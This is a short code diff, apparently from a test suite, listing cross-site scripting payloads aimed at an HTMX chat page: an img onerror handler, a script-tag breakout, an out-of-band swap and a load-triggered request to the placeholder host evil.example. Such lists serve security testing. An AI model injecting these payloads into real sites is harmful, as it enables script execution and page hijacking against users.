@@ -59,7 +59,7 @@ HTMX = [
     "<div hx-swap-oob=true id=conversation>gone</div>",
     "<div hx-ext=debug data-hx-get=//evil.example/ hx-trigger=load></div>",
     "<div id=widget data-page-url=//evil.example></div>",
-    f"<img data-dismiss data-opens=block-chat src=x onerror={RUN}>",
+    f"<img data-dismiss data-opens=shortcuts src=x onerror={RUN}>",
 ]
 ATTRIBUTES = [
     f'"><script>{RUN}</script>',
